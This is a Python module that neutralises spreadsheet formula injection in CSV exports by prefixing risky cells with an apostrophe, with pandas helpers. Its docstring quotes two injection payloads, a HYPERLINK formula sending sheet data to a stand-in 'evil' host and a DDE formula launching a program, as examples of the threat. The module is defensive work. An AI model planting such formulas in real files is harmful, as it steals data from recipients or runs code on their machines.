"""CSV files that are safe to open in a spreadsheet: the one way counterflow writes CSV.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil/?"&A1, "click")``
sends the sheet's data away; ``=cmd|' /C calc'!A0`` runs a program). Rejects files carry the
raw text of rows someone else wrote, and exports go to partners, so every such cell gets a
leading ``'`` (OWASP, "CSV Injection"), which the spreadsheet shows as text. A plain number
("-7.9", "+3") is left as it is: it is no formula and its sign is data.

>>> safe_cell("=HYPERLINK(\\"http://x\\")")
'\\'=HYPERLINK("http://x")'
>>> safe_cell("-7.9"), safe_cell(3), safe_cell("Benin City")
('-7.9', 3, 'Benin City')
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path
from typing import IO, Any

import pandas as pd

#: The characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet will not run: text that begins like a formula gets
    a leading ``'``; anything else comes back unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, fh: IO[str], **kwargs: Any) -> None:
        self._w = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow([safe_cell(c) for c in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: IO[str], **kwargs: Any) -> SafeWriter:
    """A CSV writer over ``fh`` (the arguments of ``csv.writer``) that neutralises formulas."""
    return SafeWriter(fh, **kwargs)


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot run as formulas."""
    out = frame.copy()
    for c in out.columns:
        if out[c].dtype == object or pd.api.types.is_string_dtype(out[c].dtype):
            out[c] = out[c].map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def frame_to_csv(frame: pd.DataFrame, path: str | Path | None = None, **kwargs: Any) -> str | None:
    """``frame.to_csv(path, index=False, ...)`` with formulas neutralised; the text when ``path``
    is None."""
    kwargs.setdefault("index", False)
    safe = safe_frame(frame)
    if path is None:
        buf = io.StringIO()
        safe.to_csv(buf, **kwargs)
        return buf.getvalue()
    safe.to_csv(path, **kwargs)
    return None


__all__ = ["FORMULA_STARTS", "SafeWriter", "csv_writer", "frame_to_csv", "safe_cell", "safe_frame"]
